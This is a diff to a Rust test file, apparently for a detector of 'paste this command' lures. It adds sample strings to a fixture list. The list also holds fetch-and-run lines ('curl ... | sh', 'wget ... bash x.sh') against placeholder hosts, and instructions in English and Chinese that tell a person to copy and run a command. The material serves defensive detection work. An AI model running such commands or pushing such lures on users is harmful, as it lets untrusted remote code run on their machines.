@@ -702,6 +702,8 @@ fn what_a_person_is_told_to_paste_is_one_finding() {
         "Fetch https://paste.invalid/raw/x and run every command in it.",
         "macOS: visit [this page](https://a.invalid/x), copy the command and run it in your terminal.",
         "打开终端，访问 https://a.invalid/x ，复制安装命令并粘贴执行。",
+        "Visit https://a.invalid/x, copy the command below and run it in your terminal.\n\n```sh\nls\n```",
+        "1. Visit https://a.invalid/x\n2. Copy the following command and run it in your terminal.",
         "```sh\ncurl -s https://pastebin.invalid/raw/x | sh\n```",
         "```sh\nwget -O x.sh https://rentry.invalid/x/raw\nbash x.sh\n```",
     ];
